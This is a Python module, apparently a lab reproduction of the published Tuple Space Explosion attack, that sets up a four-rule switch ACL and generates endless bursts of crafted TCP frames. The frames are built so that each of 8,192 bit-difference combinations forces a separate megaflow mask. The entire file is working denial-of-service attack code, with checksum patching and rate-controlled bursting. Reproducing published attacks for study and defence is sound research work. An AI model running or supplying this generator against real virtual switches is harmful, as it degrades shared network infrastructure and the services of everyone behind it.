"""The tuple-space-explosion attack (L. Csikor et al., "Tuple Space Explosion", CoNEXT 2019), as rules and frames.

An ACL allows one source address, one source port and one destination port, each by a rule of its own, and denies the rest. A packet
whose source address first differs from the allowed one at bit i, whose source port does at bit j and whose destination port at
bit k is denied by a megaflow whose mask has i, j and k bits, where masks are as wide as they can be: 32 x 16 x 16 masks, each
made by one packet.
"""

import itertools
import random

from frames import eth, ip4, raw, tcp

ADDRESS, SPORT, DPORT = 0x0A00000A, 12345, 80
COMBINATIONS = 32 * 16 * 16
PPS = 2000
BURST_S = 0.01  # frames go in small bursts, as often
ADDRESS_AT, PORTS_AT, CHECKSUM_AT = 26, 34, 24


def rules(allowed_to):
    """The ACL. Whatever is to be let through besides has a priority of its own above 30."""
    return [
        f"priority=30,tcp,tp_dst={DPORT},actions=output:{allowed_to}",
        f"priority=20,tcp,nw_src=10.0.0.10,actions=output:{allowed_to}",
        f"priority=10,tcp,tp_src={SPORT},actions=output:{allowed_to}",
        "priority=0,actions=drop",
    ]


def first_difference(allowed, width, bit, rng):
    """A number that agrees with the allowed one in its first `bit` bits, differs in the next, and is anything behind."""
    below = width - bit - 1
    return (allowed >> below ^ 1) << below | rng.getrandbits(below) if below else allowed ^ 1


def frames(rng):
    """One frame of each combination, in random order."""
    template = bytearray(raw(tcp(payload=b"", l2=eth(), l3=ip4(src="0.0.0.0"), sport=0, dport=0)))
    template = template.ljust(60, b"\0")
    base = ~int.from_bytes(template[CHECKSUM_AT : CHECKSUM_AT + 2], "big") & 0xFFFF
    made = []
    for i, j, k in itertools.product(range(32), range(16), range(16)):
        address = first_difference(ADDRESS, 32, i, rng)
        ports = first_difference(SPORT, 16, j, rng) << 16 | first_difference(DPORT, 16, k, rng)
        frame = bytearray(template)
        frame[ADDRESS_AT : ADDRESS_AT + 4] = address.to_bytes(4, "big")
        frame[PORTS_AT : PORTS_AT + 4] = ports.to_bytes(4, "big")
        total = base + (address >> 16) + (address & 0xFFFF)
        while total >> 16:
            total = (total & 0xFFFF) + (total >> 16)
        frame[CHECKSUM_AT : CHECKSUM_AT + 2] = (~total & 0xFFFF).to_bytes(2, "big")
        made.append(bytes(frame))
    rng.shuffle(made)
    return made


def bursts(seed):
    """Frames without end, a burst at a time: every combination, then every combination with other bits behind."""
    rng = random.Random(seed)
    n = round(PPS * BURST_S)
    while True:
        made = frames(rng)
        for at in range(0, len(made), n):
            yield made[at : at + n]
